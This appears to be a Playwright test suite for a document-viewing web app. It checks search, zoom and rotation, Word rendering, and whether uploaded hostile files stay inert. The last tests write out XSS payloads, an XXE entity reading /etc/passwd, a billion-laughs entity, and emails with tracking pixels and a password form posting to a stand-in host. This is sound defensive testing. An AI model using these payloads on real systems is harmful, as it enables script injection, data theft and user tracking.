import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { writeDocx } from "#scenario/papers/write-files.ts";
import { hostilePdf, pdfFile } from "./support/papers.ts";
import { api, expect, readArrival, signIn, test } from "./support/world.ts";

test("a number is found however it is spelt, narrowed by filters, and the address shows the same again", async ({ page }) => {
  await signIn(page, "clerk", "/find");
  const field = page.getByLabel("Search documents");
  for (const typed of ["B-20418", "b20418", "B 20418"]) {
    await field.fill(typed);
    await expect(page.getByRole("link", { name: "Packing list B-20418", exact: true })).toBeVisible();
  }
  await page
    .getByRole("complementary", { name: "Filters" })
    .getByRole("button", { name: /Packing list/ })
    .click();
  await expect(page).toHaveURL(/type=packingList/);
  await page.reload();
  await expect(page.getByRole("status").filter({ hasText: "document" })).toHaveText("1 document");
  await expect(page.getByText("Clear filters")).toHaveCount(0);
  await field.fill("bunkerage");
  await page.getByRole("button", { name: "Clear filters" }).click();
  await page.getByRole("button", { name: /by word beginnings/ }).click();
  await expect(field).toHaveValue("bunker*");
  await expect(page.locator("mark").first()).toBeVisible();
  await page.locator("article").first().click();
  await expect(page.getByRole("region", { name: "Document" }).getByAltText("Page 1")).toBeVisible();
});

test("a document is read: zoomed, turned, fitted, searched, and its words selected", async ({ page, request }) => {
  const lines = Array.from({ length: 20 }, (_, i) => `Line ${i + 1} of the page`);
  const made = (await (await api(request).upload(await pdfFile("to view.pdf", lines, [...lines, "The heron stands here"]))).json()) as {
    id: string;
  };
  await readArrival(request, made.id);
  await signIn(page, "administrator", `/arrivals?at=${made.id}`);
  const viewer = page.getByRole("region", { name: "Document" }).locator(".viewer");
  const first = viewer.locator("[data-page='1']");
  await expect(first.getByAltText("Page 1")).toBeVisible();
  await expect(page.getByText("page 1 of 2", { exact: true })).toBeVisible();
  const width = async () => (await first.boundingBox())?.width ?? 0;
  const fitted = await width();
  await page.keyboard.press("+");
  await expect.poll(width).not.toBe(fitted);
  await page.keyboard.press("w");
  await expect.poll(width).toBe(fitted);
  await page.keyboard.press("r");
  await expect
    .poll(async () => {
      const box = await first.boundingBox();
      return (box?.width ?? 0) > (box?.height ?? 0);
    })
    .toBe(true);
  await page.keyboard.press("Control+f");
  await page.getByLabel("Search in document").last().fill("heron stands");
  await expect(page.getByText("1 of 1", { exact: true })).toBeVisible();
  await expect(viewer.locator(".hit.now")).toBeVisible();
  expect(await viewer.locator("[data-page='2'] .word").allTextContents()).toContain("heron ");
});

test("tables, mails, text and what has no view are shown without running anything", async ({ page, request }) => {
  const upload = async (name: string, mimeType: string, text: string): Promise<string> => {
    const made = (await (await api(request).upload({ name, mimeType, buffer: Buffer.from(text) })).json()) as { id: string };
    await readArrival(request, made.id);
    return made.id;
  };
  await signIn(page, "administrator");
  let ran = false;
  await page.exposeFunction("ranFromPaper", () => {
    ran = true;
  });
  const attack = `<img src=x onerror="ranFromPaper()"><script>ranFromPaper()</script>`;
  const views: readonly (readonly [string, string, string, string])[] = [
    ["table.csv", "text/csv", `a,b,c\n1,"${attack.replaceAll('"', '""')}",=1+1\n2,x,y\n`, "=1+1"],
    ["words.txt", "text/plain", `Plain ${attack}`, "Plain <img"],
    ["page.html", "text/html", `<html><body>${attack}<p>Hypertext</p></body></html>`, "Hypertext"],
    ["picture.svg", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg" onload="ranFromPaper()"><text>drawn</text></svg>`, "drawn"],
    [
      "letter.eml",
      "message/rfc822",
      `From: a@b.example\r\nTo: c@d.example\r\nSubject: Hello\r\nContent-Type: text/html\r\n\r\n${attack}<p>Mailed words</p>`,
      "Mailed words",
    ],
  ];
  for (const [name, mimeType, text, seen] of views) {
    const id = await upload(name, mimeType, text);
    await page.goto(`/arrivals?at=${id}`);
    await expect(page.locator(".viewer"), name).toContainText(seen);
    const content = await api(request).get(`/arrivals/${id}/content`);
    expect(content.headers()["content-disposition"], name).toContain("attachment");
    expect(content.headers()["content-security-policy"], name).toContain("sandbox");
    expect(content.headers()["x-content-type-options"], name).toBe("nosniff");
  }
  expect(ran).toBe(false);
});

test("hostile documents run nothing, fetch nothing and lead nowhere: pages with scripts, pictures that load, mails that call home, a locked-up sign-in form", async ({
  page,
  request,
  baseURL,
}) => {
  let called = 0;
  const home = createServer((_, answer) => {
    called++;
    answer.end("home");
  });
  await new Promise<void>((go) => home.listen(0, "127.0.0.1", go));
  const outside = `http://127.0.0.1:${(home.address() as AddressInfo).port}`;
  let ran = false;
  await page.exposeFunction("ranFromPaper", () => {
    ran = true;
  });
  const strange: string[] = [];
  page.on("request", (r) => {
    if (!r.url().startsWith(baseURL ?? "") && !/^(data|blob):/.test(r.url())) strange.push(r.url());
  });
  page.on("dialog", (d) => {
    ran = true;
    void d.dismiss();
  });
  const mail = (body: string): string =>
    `From: a@b.example\r\nTo: c@d.example\r\nSubject: Hello\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${body}<p>Mailed words</p>`;
  const entity = `<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY h SYSTEM "${outside}/dtd"><!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>`;
  const papers: readonly (readonly [name: string, mimeType: string, bytes: Buffer, seen: string])[] = [
    ["script.pdf", "application/pdf", await hostilePdf(outside), "Innocent page"],
    [
      "calls.eml",
      "message/rfc822",
      Buffer.from(
        mail(
          `<meta http-equiv="refresh" content="0;url=${outside}/away"><base href="${outside}"><link rel="stylesheet" href="${outside}/s.css"><img src="${outside}/pixel.png"><iframe src="${outside}/frame"></iframe><form action="${outside}/take"><input name="password"></form><svg onload="ranFromPaper()"></svg><a href="javascript:ranFromPaper()">click</a><style>@import "${outside}/i.css"; body{background:url(${outside}/b.png)}</style>`,
        ),
      ),
      "Mailed words",
    ],
    [
      "drawing.svg",
      "image/svg+xml",
      Buffer.from(
        `<?xml version="1.0"?>${entity}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="ranFromPaper()"><image xlink:href="${outside}/i.png"/><use xlink:href="${outside}/u.svg#x"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${outside}/f"/></foreignObject><script>ranFromPaper()</script><text>&f;&h;&b; drawn words</text></svg>`,
      ),
      "drawn words",
    ],
    [
      "page.html",
      "text/html",
      Buffer.from(
        `<!doctype html><html><head><script src="${outside}/s.js"></script><meta http-equiv="refresh" content="0;url=${outside}"></head><body onload="ranFromPaper()"><object data="${outside}/o"></object><embed src="${outside}/e"><video src="${outside}/v" autoplay></video><p>Hypertext words</p></body></html>`,
      ),
      "Hypertext words",
    ],
  ];
  try {
    await signIn(page, "administrator");
    for (const [name, mimeType, buffer, seen] of papers) {
      const { id } = (await (await api(request).upload({ name, mimeType, buffer })).json()) as { id: string };
      await readArrival(request, id);
      await page.goto(`/arrivals?at=${id}`);
      await expect(page.locator(".viewer"), name).toContainText(seen);
      const words = (await page.locator(".viewer").textContent()) ?? "";
      expect(words, name).not.toContain("root:x:");
      // Opened by its own address it is a download, in a box that may do nothing.
      const content = await api(request).get(`/arrivals/${id}/content`);
      expect(content.headers()["content-disposition"], name).toContain("attachment");
      expect(content.headers()["content-security-policy"], name).toContain("sandbox");
    }
    // Whatever a document had begun was begun before this page is there.
    await page.goto("/desk");
    await expect(page.locator("h1")).toBeVisible();
    expect(strange).toEqual([]);
    expect(ran).toBe(false);
    expect(called).toBe(0);
  } finally {
    await new Promise((go) => home.close(go));
  }
});

test("a Word file is shown by its text at once and as pages a moment later, with words that can be found on them", async ({
  page,
  request,
}) => {
  const { id } = (await (
    await api(request).upload({
      name: "contract.docx",
      mimeType: "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
      buffer: Buffer.from(await writeDocx(["Contract of employment", "Rank: Bosun of the quay"])),
    })
  ).json()) as { id: string };
  await signIn(page, "administrator", `/arrivals?at=${id}`);
  const viewer = page.locator(".viewer");
  await expect(viewer.locator("img[alt='Page 1']")).toBeVisible({ timeout: 60_000 });
  await expect(viewer.locator("[data-page='1'] .word", { hasText: "Bosun" })).toHaveCount(1);
  expect(await (await api(request).get(`/arrivals/${id}/pages/1.png?width=480`)).body()).toBeTruthy();
});
